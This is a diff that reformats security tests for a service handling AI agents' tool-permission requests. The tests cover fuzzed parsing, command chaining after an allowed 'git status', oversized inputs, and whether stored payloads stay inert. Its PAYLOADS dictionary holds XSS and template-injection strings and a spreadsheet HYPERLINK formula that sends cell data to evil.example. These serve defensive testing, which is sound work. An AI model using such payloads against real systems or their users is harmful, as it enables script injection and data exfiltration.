@@ -59,10 +59,26 @@ class FrameParserFuzzTests:
             assert exc.code
 
     @FUZZ
-    @given(json_values | st.dictionaries(st.sampled_from(["tool_name", "tool_input", "cwd", "session_id",
-                                                          "tool_use_id", "permission_mode", "context",
-                                                          "additional_directories", "pre_tool_use_hooks"]),
-                                         json_values, max_size=6))
+    @given(
+        json_values
+        | st.dictionaries(
+            st.sampled_from(
+                [
+                    "tool_name",
+                    "tool_input",
+                    "cwd",
+                    "session_id",
+                    "tool_use_id",
+                    "permission_mode",
+                    "context",
+                    "additional_directories",
+                    "pre_tool_use_hooks",
+                ]
+            ),
+            json_values,
+            max_size=6,
+        )
+    )
     def test_it_validates_any_submitted_request_or_refuses_it_with_a_frame_error(self, request: Any) -> None:
         try:
             call = _validated_call(request)
@@ -95,8 +111,15 @@ class EngineFuzzTests:
         rules = [{"rule": "Bash(git status)", "behavior": "allow", "source": "projectSettings"}]
 
         def behavior(command: str) -> str:
-            doc = {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": "/srv/p", "home": "/home/d",
-                   "mode": "default", "context": "interactive", "rules": rules}
+            doc = {
+                "tool_name": "Bash",
+                "tool_input": {"command": command},
+                "cwd": "/srv/p",
+                "home": "/home/d",
+                "mode": "default",
+                "context": "interactive",
+                "rules": rules,
+            }
             return policy.decide(doc).behavior
 
         combined = behavior(f"git status; {tail}")
@@ -108,9 +131,9 @@ class EngineFuzzTests:
 
 PAYLOADS = {
     "script": "<script>alert('xss')</script>",
-    "attr": "\"><img src=x onerror=alert(1)>",
+    "attr": '"><img src=x onerror=alert(1)>',
     "template": "{{7*7}} {% debug %} {{ request.META }}",
-    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
 }
 
 
@@ -118,14 +141,27 @@ class PayloadSubmission:
     def submit_payloads(self, ci_bot: Any, alice: Any) -> list[Any]:
         requests = []
         for name, payload in PAYLOADS.items():
-            call = {"tool_name": "Bash", "tool_input": {"command": f"echo {payload}"}, "session_id": payload,
-                    "cwd": "/srv/project", "tool_use_id": f"toolu_{name}"}
+            call = {
+                "tool_name": "Bash",
+                "tool_input": {"command": f"echo {payload}"},
+                "session_id": payload,
+                "cwd": "/srv/project",
+                "tool_use_id": f"toolu_{name}",
+            }
             requests.append(services.request_submit(agent=ci_bot.agent, call=call).request)
         # An unknown tool named like a formula is audited as it came.
-        services.request_submit(agent=ci_bot.agent, call={"tool_name": PAYLOADS["formula"], "tool_input": {},
-                                                           "session_id": "@SUM(1+1)", "tool_use_id": "toolu_f"})
-        services.request_decide(request_id=requests[0].pk, behavior="deny", surface="api", user=alice,
-                                message=PAYLOADS["script"])
+        services.request_submit(
+            agent=ci_bot.agent,
+            call={
+                "tool_name": PAYLOADS["formula"],
+                "tool_input": {},
+                "session_id": "@SUM(1+1)",
+                "tool_use_id": "toolu_f",
+            },
+        )
+        services.request_decide(
+            request_id=requests[0].pk, behavior="deny", surface="api", user=alice, message=PAYLOADS["script"]
+        )
         return requests
 
 
@@ -160,17 +196,19 @@ class InertPayloadTests(PayloadSubmission):
             assert "<script>alert" not in html
 
 
-
 # Transactional: the live server reads the rows, so they must be committed.
 @pytest.mark.django_db(transaction=True)
 class CsvInjectionTests(PayloadSubmission):
-    def test_it_defuses_formulas_in_the_csv_export(self, security_server: LiveServer, ci_bot: Any,
-                                                   alice: Any) -> None:
+    def test_it_defuses_formulas_in_the_csv_export(self, security_server: LiveServer, ci_bot: Any, alice: Any) -> None:
         self.submit_payloads(ci_bot, alice)
         token = services.personal_token_create(user=alice)
         # Over HTTP from a live server, as a spreadsheet user would download it.
-        response = httpx.get(f"{security_server.url}/api/v1/audit", params={"format": "csv"}, timeout=30,
-                             headers={"Authorization": f"Bearer {token}"})
+        response = httpx.get(
+            f"{security_server.url}/api/v1/audit",
+            params={"format": "csv"},
+            timeout=30,
+            headers={"Authorization": f"Bearer {token}"},
+        )
         assert response.status_code == 200
         rows = list(csv.reader(io.StringIO(response.text)))
         assert len(rows) >= 3
@@ -184,14 +222,19 @@ class CsvInjectionTests(PayloadSubmission):
 class OversizedInputTests:
     def test_it_refuses_an_oversized_http_body_with_413(self, ci_bot: Any) -> None:
         body = json.dumps({"tool_name": "Bash", "tool_input": {"command": "x" * (1024 * 1024 + 10)}})
-        response = Client().post("/api/v1/permission-requests", data=body, content_type="application/json",
-                                 **ci_bot.auth)
+        response = Client().post(
+            "/api/v1/permission-requests", data=body, content_type="application/json", **ci_bot.auth
+        )
         assert response.status_code == 413
 
     def test_it_refuses_oversized_frames_and_keeps_the_socket(self, security_server: LiveServer, ci_bot: Any) -> None:
         async def scenario() -> tuple[dict[str, Any], dict[str, Any], int | None]:
-            async with connect(f"{security_server.ws_url}/ws/agent/", proxy=None, max_size=None,
-                               additional_headers={"Authorization": f"Bearer {ci_bot.token}"}) as ws:
+            async with connect(
+                f"{security_server.ws_url}/ws/agent/",
+                proxy=None,
+                max_size=None,
+                additional_headers={"Authorization": f"Bearer {ci_bot.token}"},
+            ) as ws:
                 await ws.send(json.dumps({"type": "progress", "id": "x", "data": "a" * (MAX_FRAME_BYTES + 1)}))
                 refused = json.loads(await asyncio.wait_for(ws.recv(), 15))
                 await ws.send(json.dumps({"type": "nope"}))
